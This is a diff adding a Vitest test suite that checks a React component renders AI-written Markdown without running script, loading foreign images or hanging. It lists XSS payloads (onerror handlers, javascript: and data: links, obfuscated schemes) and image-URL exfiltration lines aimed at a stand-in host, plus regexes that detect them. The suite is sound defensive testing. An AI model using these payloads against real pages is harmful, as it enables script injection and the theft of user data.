@@ -1,0 +1,112 @@
+/** Whatever a model writes, the page stays ours: no script, no foreign picture, no broken screen. */
+import { renderToStaticMarkup } from 'react-dom/server';
+import { beforeAll, describe, expect, test, vi } from 'vitest';
+import { AnswerText } from './answer-text.tsx';
+
+beforeAll(() => {
+  vi.stubGlobal('window', { location: { origin: 'https://maquette.example' } });
+});
+
+const shown = (text: string) => renderToStaticMarkup(<AnswerText text={text} />);
+
+const attacks = [
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)></svg>',
+  '<script>alert(1)</script>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '<form action="https://evil.example"><input name=q></form>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](data:text/html,<script>alert(1)</script>)',
+  '[x](vbscript:msgbox(1))',
+  '<javascript:alert(1)>',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+  '![x](https://evil.example/?d=SECRET)',
+  '![x](//evil.example/?d=SECRET)',
+  '![x](\\\\evil.example/a.png)',
+  '![x](/\\evil.example/a.png)',
+  '![x](https://maquette.example@evil.example/a.png)',
+  '![x](https://maquette.example.evil.example/a.png)',
+  '![x](HTTPS://EVIL.example/a.png)',
+  '![x](/api/auth/sign-out)',
+  '![x](blob:https://maquette.example/1)',
+  '![x](http://%zz)',
+  '[x](http://%zz)',
+  '[x]: https://evil.example/a.png\n\n![x]',
+  '| a |\n| - |\n| ![x](https://evil.example/t.png) |',
+  '[^__proto__]\n\n[^__proto__]: <img src=x onerror=alert(1)>',
+  '<div id="__proto__" style="position:fixed;inset:0">x</div>',
+  '# <style>*{display:none}</style>',
+  '`<img src=x onerror=alert(1)>`',
+  '```html\n<script>alert(1)</script>\n```',
+  '\u202Egnp.exe\u202C [x](https://evil.example)',
+];
+
+/** What would run, load or send something by itself. */
+const harms = [
+  /<(?:script|iframe|object|embed|form|style|svg|base|meta|link|video|audio)\b/i,
+  /<[^>]+\son\w+\s*=/i,
+  /<[^>]+\sstyle\s*=/i,
+  /(?:href|src)\s*=\s*"\s*(?:javascript|vbscript|data|blob):/i,
+  /<(?:img|source)[^>]+src="(?!\/api\/files\/)/i,
+];
+
+describe('hostile Markdown (X-01, X-02)', () => {
+  test.each(attacks)('%s', (attack) => {
+    const html = shown(attack);
+    for (const harm of harms) expect(html).not.toMatch(harm);
+  });
+
+  test('at every cut point of a stream (X-06)', () => {
+    for (const attack of attacks) {
+      for (let cut = 1; cut < attack.length; cut += 1) {
+        const html = shown(attack.slice(0, cut));
+        for (const harm of harms) expect(html).not.toMatch(harm);
+      }
+    }
+  });
+});
+
+describe('links and pictures', () => {
+  test('a foreign link opens elsewhere, tells nobody where from, and shows its host (X-09)', () => {
+    const html = shown('[The register](https://records.example/plans?id=1)');
+    expect(html).toContain('href="https://records.example/plans?id=1"');
+    expect(html).toContain('target="_blank"');
+    expect(html).toContain('rel="noopener noreferrer"');
+    expect(html).toContain('(records.example)');
+  });
+
+  test('a foreign picture is a link; one of our own is shown', () => {
+    const foreign = shown('![A plan](https://evil.example/a.png)');
+    expect(foreign).toContain('Show picture: A plan');
+    expect(foreign).toContain('(evil.example)');
+    expect(shown('![Mine](/api/files/abc-1)')).toContain('<img src="/api/files/abc-1"');
+  });
+});
+
+describe('what a reader expects', () => {
+  test('tables, lists, bold and code', () => {
+    const html = shown('| A | B |\n| - | - |\n| **1** | `2` |\n\n- one\n- two\n\n1. first');
+    for (const tag of ['<table', '<strong>', '<code', '<ul', '<ol']) expect(html).toContain(tag);
+  });
+});
+
+describe('size (X-01)', () => {
+  test.each([
+    ['quotes', '>'.repeat(5_000)],
+    ['lists', Array.from({ length: 2_000 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
+    ['emphasis', '*'.repeat(20_000)],
+    ['brackets', '['.repeat(20_000)],
+    ['a line of 100,000 characters', 'x'.repeat(100_000)],
+    ['links', '[a](b'.repeat(5_000)],
+    ['backticks', '`'.repeat(20_000)],
+  ])('deep or endless %s neither breaks the page nor holds it up', (_, text) => {
+    const before = performance.now();
+    expect(shown(text).length).toBeGreaterThan(0);
+    expect(performance.now() - before).toBeLessThan(5_000);
+  });
+});
